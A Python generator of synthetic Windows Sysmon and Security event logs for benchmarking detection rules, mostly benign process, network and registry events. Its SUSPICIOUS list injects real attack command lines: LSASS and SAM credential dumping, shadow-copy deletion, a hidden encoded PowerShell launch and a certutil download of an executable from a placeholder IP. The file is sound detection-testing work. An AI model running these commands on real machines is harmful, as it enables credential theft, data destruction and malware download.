"""Windows events for the benchmarks of detection and latency: seeded, of many hosts, in the mixture and shape of a Sysmon estate.

Written flat, one JSON object a line, as collectors write them (nxlog, OTRF's captures). It is the ordinary life of machines:
programs lie where they are installed, are started by what starts them there, with the arguments that they get. `suspicious` of a
thousand process creations are of the kind that rules look for.
"""
import datetime
import json
import pathlib
import random
import typing

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSTEM = "C:\\Windows\\System32\\"


class Program(typing.NamedTuple):
    """A program with what starts it, with which arguments, and with whom it talks."""
    path: str
    parent: str
    arguments: list
    domains: list = []


SERVICES, EXPLORER, SVCHOST = SYSTEM + "services.exe", "C:\\Windows\\explorer.exe", SYSTEM + "svchost.exe"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
EDGE = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
RENDERER = ["--type=renderer --lang=en-US --device-scale-factor=1", "--type=utility --utility-sub-type=network.mojom.NetworkService"]
WEB = ["www.example.org", "login.microsoftonline.com", "outlook.office365.com", "intranet.contoso.example"]
PROGRAMS = [
    Program(SVCHOST, SERVICES, ["-k netsvcs -p -s Schedule", "-k LocalService -p", "-k NetworkService -p -s Dnscache"],
            ["ctldl.windowsupdate.com", "dc01.contoso.example"]),
    Program(SYSTEM + "RuntimeBroker.exe", SVCHOST, ["-Embedding"]),
    Program(SYSTEM + "taskhostw.exe", SVCHOST, ["", "Install $(Arg0)"]),
    Program(SYSTEM + "backgroundTaskHost.exe", SVCHOST, ["-ServerName:App.AppXy9rh3t8m2jfpvhhxp6y2ksgeq77vymbq.mca"]),
    Program(SYSTEM + "dllhost.exe", SVCHOST, ["/Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"]),
    Program(SYSTEM + "wbem\\WmiPrvSE.exe", SVCHOST, ["-secured -Embedding"]),
    Program(SYSTEM + "SearchIndexer.exe", SERVICES, ["/Embedding"]),
    Program(SYSTEM + "conhost.exe", "C:\\Program Files\\Git\\cmd\\git.exe", ["0xffffffff -ForceV1"]),
    Program("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MsMpEng.exe", SERVICES, [""]),
    Program(CHROME, CHROME, RENDERER, WEB),
    Program(EDGE, EDGE, RENDERER, WEB),
    Program("C:\\Users\\{user}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe", EXPLORER, ["/background"],
            ["contoso-my.sharepoint.com"]),
    Program("C:\\Program Files\\Common Files\\microsoft shared\\ClickToRun\\OfficeClickToRun.exe", SERVICES, ["/service"]),
    Program(OFFICE + "OUTLOOK.EXE", EXPLORER, [""], ["outlook.office365.com"]),
    Program(OFFICE + "WINWORD.EXE", EXPLORER, ["/n \"D:\\share\\reports\\quarter.docx\" /o \"\""]),
    Program("C:\\Program Files\\WindowsApps\\MSTeams_24004\\ms-teams.exe", EXPLORER, ["msteams:system-initiated"], ["teams.microsoft.com"]),
    Program("C:\\Program Files\\Git\\cmd\\git.exe", "C:\\Program Files\\Microsoft VS Code\\Code.exe", ["status --porcelain=v2 --branch"]),
    Program("C:\\Program Files\\nodejs\\node.exe", "C:\\Program Files\\Microsoft VS Code\\Code.exe",
            ["server.js --port 8080 --config=production.json"]),
    Program("C:\\Program Files\\Python311\\python.exe", SYSTEM + "cmd.exe", ["-m pytest tests --quiet"]),
]
# How often each is met, of a hundred.
WEIGHTS = [22, 8, 5, 5, 5, 4, 2, 4, 4, 14, 9, 2, 2, 2, 1, 2, 5, 2, 2]
TALKING = [program for program in PROGRAMS if program.domains]
SUSPICIOUS = ["powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "vssadmin.exe delete shadows /all /quiet",
              "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full", "whoami.exe /all",
              "reg.exe save hklm\\sam C:\\Users\\Public\\sam.save", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe a.exe",
              "net.exe group \"Domain Admins\" /domain", "wmic.exe process call create \"cmd.exe /c calc.exe\""]
KEYS = ["HKLM\\System\\CurrentControlSet\\Services\\W32Time\\Config\\LastKnownGoodTime", "HKU\\S-1-5-21\\Software\\Microsoft\\Office\\16.0",
        "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\DiagTrack\\Aggregation", "HKCR\\Local Settings\\MuiCache\\1f"]
LIBRARIES = ["ntdll.dll", "kernel32.dll", "combase.dll", "crypt32.dll", "ws2_32.dll", "bcrypt.dll", "ucrtbase.dll", "shlwapi.dll"]
# Event ids with their share of a thousand.
MIXTURE = {1: 130, 3: 110, 5: 100, 7: 230, 8: 2, 10: 90, 11: 90, 12: 60, 13: 90, 17: 8, 18: 10, 22: 40, 23: 20, 4624: 10, 4688: 10}


class Estate:
    """The machines, 200 events a second from `begin` on."""
    def __init__(self, seed: int, suspicious: int, begin: datetime.datetime = datetime.datetime(2026, 3, 1)):
        self.random = random.Random(seed)
        self.suspicious = suspicious
        self.begin = begin

    def program(self, talking: bool = False) -> Program:
        return self.random.choice(TALKING) if talking else self.random.choices(PROGRAMS, WEIGHTS)[0]

    def event(self, number: int) -> dict:
        choose = self.random
        kind = choose.choices(list(MIXTURE), MIXTURE.values())[0]
        user, host = f"user{choose.randrange(400)}", f"WS{choose.randrange(300):04}.contoso.example"
        clock = (self.begin + datetime.timedelta(seconds=number // 200)).strftime("%Y-%m-%d %H:%M:%S")
        guid = f"{{{choose.getrandbits(32):08x}-{choose.getrandbits(16):04x}-6400-0000-0010{choose.getrandbits(32):08x}}}"
        event = {"@timestamp": clock.replace(" ", "T") + f".{number % 200 * 5:03}Z", "Hostname": host, "Computer": host, "EventID": kind,
                 "SourceName": "Microsoft-Windows-Sysmon", "Channel": SYSMON, "RecordNumber": number, "Task": kind,
                 "SeverityValue": 2, "ExecutionProcessID": 2800, "ThreadID": 4120}
        if kind >= 4000:
            event |= {"Channel": "Security", "SourceName": "Microsoft-Windows-Security-Auditing", "SubjectUserName": user,
                      "SubjectDomainName": "CONTOSO", "SubjectLogonId": hex(choose.getrandbits(24))}
            return event | (self.audit_process(user) if kind == 4688 else self.logon(user))
        program = self.program(talking=kind in (3, 17, 18, 22))
        event |= {"UtcTime": clock + f".{number % 200 * 5:03}", "ProcessGuid": guid, "ProcessId": choose.randrange(300, 20000),
                  "Image": program.path.replace("{user}", user), "RuleName": "-", "User": f"CONTOSO\\{user}"}
        return event | self.details(kind, program, event["Image"], user)

    def audit_process(self, user: str) -> dict:
        program = self.program()
        image = program.path.replace("{user}", user)
        return {"NewProcessName": image, "NewProcessId": hex(self.random.randrange(300, 20000)), "TokenElevationType": "%%1936",
                "CommandLine": f"\"{image}\" {self.random.choice(program.arguments)}", "ParentProcessName": program.parent}

    def logon(self, user: str) -> dict:
        return {"TargetUserName": user, "TargetDomainName": "CONTOSO", "LogonType": self.random.choice(["2", "3", "5", "7"]),
                "IpAddress": f"10.1.{self.random.randrange(256)}.{self.random.randrange(256)}", "LogonProcessName": "Kerberos",
                "AuthenticationPackageName": "Kerberos", "WorkstationName": "-", "KeyLength": "0"}

    def details(self, kind: int, program: Program, image: str, user: str) -> dict:
        choose = self.random
        if kind == 1:
            line = f"\"{image}\" {choose.choice(program.arguments)} {choose.getrandbits(32):x}"
            if choose.randrange(1000) < self.suspicious:
                line = choose.choice(SUSPICIOUS)
                image = SYSTEM + line.split(" ")[0]
            return {"Image": image, "CommandLine": line, "CurrentDirectory": f"C:\\Users\\{user}\\", "IntegrityLevel": "Medium",
                    "Hashes": f"SHA1={choose.getrandbits(160):040X},MD5={choose.getrandbits(128):032X},IMPHASH={choose.getrandbits(128):032X}",
                    "ParentImage": program.parent, "ParentCommandLine": f"\"{program.parent}\" {choose.getrandbits(16):x}",
                    "OriginalFileName": image.rsplit("\\", 1)[1], "Company": "Microsoft Corporation", "Product": "Windows",
                    "Description": "Host Process for Windows Services", "FileVersion": "10.0.19041.1806", "LogonId": "0x3e7",
                    "ParentUser": f"CONTOSO\\{user}", "TerminalSessionId": 1}
        if kind == 3:
            return {"Protocol": "tcp", "Initiated": "true", "SourceIp": f"10.1.0.{choose.randrange(256)}", "SourcePort":
                    choose.randrange(49152, 65535), "DestinationIp": f"52.96.{choose.randrange(256)}.{choose.randrange(256)}",
                    "DestinationPort": choose.choice([443, 443, 80]), "DestinationHostname": choose.choice(program.domains)}
        if kind == 7:
            return {"ImageLoaded": SYSTEM + choose.choice(LIBRARIES), "Signed": "true", "SignatureStatus": "Valid",
                    "Signature": "Microsoft Windows", "Hashes": f"SHA256={choose.getrandbits(256):064X}", "OriginalFileName": "-"}
        if kind in (8, 10):
            source = SYSTEM + "csrss.exe" if kind == 8 else image
            return {"SourceImage": source, "TargetImage": self.program().path.replace("{user}", user), "GrantedAccess":
                    choose.choice(["0x1000", "0x1400", "0x3000"]), "CallTrace":
                    f"C:\\Windows\\SYSTEM32\\ntdll.dll+9d1e4|{SYSTEM}KERNELBASE.dll+2c13e|{image}+{choose.getrandbits(18):x}",
                    "SourceUser": f"CONTOSO\\{user}", "TargetUser": "NT AUTHORITY\\SYSTEM"}
        if kind in (11, 23):
            return {"TargetFilename": f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{choose.getrandbits(48):x}.tmp", "CreationUtcTime": "-"}
        if kind in (12, 13):
            return {"EventType": "SetValue" if kind == 13 else "CreateKey", "TargetObject": choose.choice(KEYS),
                    "Details": f"DWORD (0x{choose.getrandbits(32):08x})"}
        if kind in (17, 18):
            return {"PipeName": f"\\mojo.{choose.getrandbits(32)}.{choose.getrandbits(32)}"}
        if kind == 22:
            return {"QueryName": choose.choice(program.domains), "QueryStatus": "0", "QueryResults": "::ffff:52.96.1.2;"}
        return {}


def write(path: pathlib.Path, events: int, seed: int = 7, suspicious: int = 4) -> None:
    estate = Estate(seed, suspicious)
    with path.open("w") as lines:
        for number in range(events):
            lines.write(json.dumps(estate.event(number)) + "\n")
